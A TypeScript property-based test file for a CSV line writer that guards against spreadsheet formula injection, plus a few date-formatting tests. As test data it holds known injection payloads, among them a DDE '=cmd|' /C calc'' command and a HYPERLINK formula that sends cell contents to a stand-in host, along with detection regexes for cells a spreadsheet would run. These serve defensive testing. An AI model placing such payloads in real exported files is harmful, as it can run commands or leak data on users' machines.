import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from './csv.ts';
import { formatDate } from './dates.ts';

/** Reads one line as RFC 4180 has it. */
function parse(line: string): string[] {
  const cells: string[] = [];
  expect(line.endsWith('\r\n')).toBe(true);
  let rest = `${line.slice(0, -2)},`;
  while (rest !== '') {
    const [all = '', quoted, plain] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*)),/.exec(rest) ?? [];
    expect(all).not.toBe('');
    cells.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    rest = rest.slice(all.length);
  }
  return cells;
}

describe('a line of CSV', () => {
  /** Takes the guards away, as docs/choices.md says it. */
  const plain = (cell: string): string =>
    cell.replace(/(^|[;|\t\n]|\r(?!\n))'(?=[\s\p{C}\p{Z}"']*[=+\-@＝＋－＠﹦﹢﹣﹫])|^'(?='*[\t\r\n])/gu, '$1');

  const hostile = fc.string({ unit: fc.constantFrom(...'",;|\r\n\t =+-@＝\'x1\u00a0\ufeff') });

  it('is read back as the texts that were written, once their guards are taken away', () => {
    const texts = fc.array(fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), hostile), { minLength: 1 });
    fc.assert(
      fc.property(texts, (cells) => {
        expect(parse(csvLine(cells)).map(plain)).toEqual(cells);
      }),
      { numRuns: 1000 },
    );
  });

  /** A cell that a spreadsheet would run: what is not a number and begins so, also after what it passes over. */
  const runs = (cell: string): boolean =>
    /^[\s\p{C}\p{Z}"]*[=+\-@＝＋－＠﹦]/u.test(cell) && !/^[+-]?[\d., ()e%-]+$/i.test(cell);

  it.each([';', '\t', '|', ','])('holds no cell that a spreadsheet would run, were %j its separator', (separator) => {
    const start = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      ' =',
      '\t=',
      '\r=',
      '\n@',
      '＝',
      ';=',
      'a;=',
      'a\t+',
      'a|@',
      '"=',
      'a";"=',
      '\u00a0=',
      '\ufeff=',
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(start, hostile), { minLength: 1 }), (parts) => {
        const line = csvLine(parts.map(([first, rest]) => `${first}cmd${rest}`));
        // However it treats quotes: as what keeps a cell together, or as any character.
        const split = separator === ',' ? parse(line) : line.split(new RegExp(`[${separator}\r\n]`));
        expect(split.filter(runs)).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });

  it.each([
    ['=HYPERLINK("http://x/?"&A1)', `"'=HYPERLINK(""http://x/?""&A1)"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+cmd', "'+cmd"],
    ['-2+3+cmd', "'-2+3+cmd"],
    ['@SUM(1)', "'@SUM(1)"],
    ['- a point of a list', "'- a point of a list"],
    ['  =1+1', "'  =1+1"],
    ['a;=1+1', `"a;'=1+1"`],
    ['a\t=1+1', `"a\t'=1+1"`],
    ['a\r\n=1+1', `"a\r\n'=1+1"`],
    ['"=1+1', `"'""=1+1"`],
    ["'=1+1", "''=1+1"],
    ['＝1+1', "'＝1+1"],
    ["it's a-b, c=d", `"it's a-b, c=d"`],
    ['a, -b', '"a, -b"'],
    ['-5', '-5'],
    ['+3.25', '+3.25'],
    ['-1,000.50', '"-1,000.50"'],
    ['-1e5', '-1e5'],
    ['+14155550100', '+14155550100'],
    ['+1 (415) 555-0100', '+1 (415) 555-0100'],
    ['a=b', 'a=b'],
    ['', ''],
    [' padded', '" padded"'],
  ])('%j is written as %s', (text, written) => {
    expect(csvLine([text])).toBe(`${written}\r\n`);
  });

  it('is as guarded as one expression that looks around every place has it', () => {
    const looked = /(?<=^|[;|\t\n]|\r(?!\n))(?=[\s\p{C}\p{Z}"']*[=+\-@＝＋－＠﹦﹢﹣﹫])|^(?='*[\t\r\n])/gu;
    // A letter at the end keeps it from being a number.
    const texts = fc.oneof(fc.string(), fc.string({ unit: 'binary' }), hostile).map((text) => `${text}x`);
    fc.assert(
      fc.property(texts, (text) => {
        expect(parse(csvLine([text]))).toEqual([text.replace(looked, "'")]);
      }),
      { numRuns: 20_000 },
    );
  });

  const LONG = 99_998;
  it.each([
    '\n',
    '\t',
    '\r',
    '\r\n',
    ' ',
    ';',
    '|',
    '"',
    "'",
    "'\t",
    ';\n',
    '\u00a0',
    '\ufeff',
    '=',
    '\n=',
    '1',
    '(',
    '.',
  ])('takes no longer for each of many %j', (unit) => {
    const started = performance.now();
    for (const [before, after] of ['', 'x', '=', '+1', '1e5'].flatMap((end) => [
      ['', end],
      ['x', end],
    ])) {
      csvLine([`${before}${unit.repeat(LONG / unit.length)}${after}`]);
    }
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it('writes numbers, booleans, nulls, lists and objects', () => {
    expect(csvLine([-5, 0.5, true, null, undefined, ['a', 'b'], { a: 1 }])).toBe(
      `-5,0.5,true,,,"a, b","{""a"":1}"\r\n`,
    );
  });
});

describe('a moment', () => {
  it.each([
    ['original', '2024-01-31T10:00:00.123456+00:00', '2024-01-31 10:00:00.123456+00:00'],
    ['iso8601', '2024-01-31T10:00:00.123456+00:00', '2024-01-31T10:00:00+00:00'],
    ['excel', '2024-01-31T10:00:00.123456+00:00', '2024-01-31 10:00:00 AM'],
    ['excel', '2024-01-31T00:05:06+00:00', '2024-01-31 12:05:06 AM'],
    ['excel', '2024-01-31T12:00:00+00:00', '2024-01-31 12:00:00 PM'],
    ['excel', '2024-01-31T23:59:59.999999+00:00', '2024-01-31 11:59:59 PM'],
    ['excel', '2024-01-31', '2024-01-31'],
    ['original', '2024-01-31', '2024-01-31'],
  ] as const)('as %s: %s is %s', (format, text, written) => {
    expect(formatDate(text, format)).toBe(written);
  });
});
